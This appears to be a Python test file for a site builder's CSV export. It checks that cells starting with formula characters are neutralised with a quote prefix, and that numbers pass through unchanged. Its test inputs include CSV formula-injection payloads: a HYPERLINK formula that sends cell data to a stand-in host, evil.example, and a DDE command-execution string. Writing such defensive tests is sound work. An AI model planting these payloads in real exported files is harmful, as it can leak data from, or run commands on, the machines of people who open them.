"""The smaller hardening gaps of issue 24: CSV cells a spreadsheet would run as formulas,
secrets hidden in encoded forms, editors' files that fail without saying where, and the
DNS results API's idle connections."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from site_builder.build.datafiles import FORMULA_STARTS, csv_file

# ------------------------------------------------------------------------------ CSV cells


def parsed(rows: list[dict]) -> list[list[str]]:
    text = b"".join(csv_file(iter(rows))).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_text_cells_that_a_spreadsheet_would_run_are_quoted_as_owasp_recommends() -> None:
    hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "\n=1+2",
        "  =cmd|'/c calc'!A1",
    ]
    rows = [{"name": text, "price": 1} for text in hostile]
    _header, *cells = parsed(rows)
    assert [row[0] for row in cells] == ["'" + text for text in hostile]


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row_or_cell() -> None:
    rows = [{"name": "fine\r=1+2", "note": "x"}, {"name": "y", "note": "z"}]
    assert parsed(rows) == [["name", "note"], ["fine\r=1+2", "x"], ["y", "z"]]


def test_csv_numbers_and_harmless_text_are_untouched() -> None:
    rows = [
        {"name": "H100 SXM", "delta": -3.5, "count": -2, "exact": Decimal("-0.10"), "n": None},
        {"name": "a-b = c", "delta": 0.0, "count": 7, "exact": Decimal("1.5"), "n": ""},
        {"name": "'=already quoted", "delta": 1e-9, "count": 0, "exact": Decimal("0"), "n": "x"},
    ]
    assert parsed(rows) == [
        ["name", "delta", "count", "exact", "n"],
        ["H100 SXM", "-3.5", "-2", "-0.10", ""],
        ["a-b = c", "0.0", "7", "1.5", ""],
        ["'=already quoted", "1e-09", "0", "0", "x"],
    ]


def test_csv_header_names_are_neutralised_too() -> None:
    assert parsed([{"=evil": 1}]) == [["'=evil"], ["1"]]


def test_csv_output_is_deterministic_across_chunks() -> None:
    rows = [{"name": f"={i}", "value": -i} for i in range(2_500)]  # more than one chunk
    chunks = list(csv_file(iter(rows)))
    assert len(chunks) > 1
    assert b"".join(chunks) == b"".join(csv_file(iter(rows)))


cell = st.one_of(
    st.text(max_size=12),
    st.text(alphabet="=+-@\t\r\n '\"; ,a1", max_size=8),
    st.integers(),
    st.floats(allow_nan=False),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.none(),
)


@given(st.lists(st.tuples(cell, cell), min_size=1, max_size=20))
def test_no_text_cell_reads_back_as_a_formula(pairs: list[tuple[object, object]]) -> None:
    rows = [{"a": a, "b": b} for a, b in pairs]
    _header, *out = parsed(rows)
    assert len(out) == len(rows)
    for row, read_back in zip(rows, out, strict=True):
        for value, text in zip(row.values(), read_back, strict=True):
            if isinstance(value, str):
                assert text[:1] not in FORMULA_STARTS
                assert text.lstrip()[:1] not in FORMULA_STARTS
                assert text in (value, "'" + value)  # nothing else is changed
            elif value is not None:
                assert text == str(value)  # numbers are written as they are
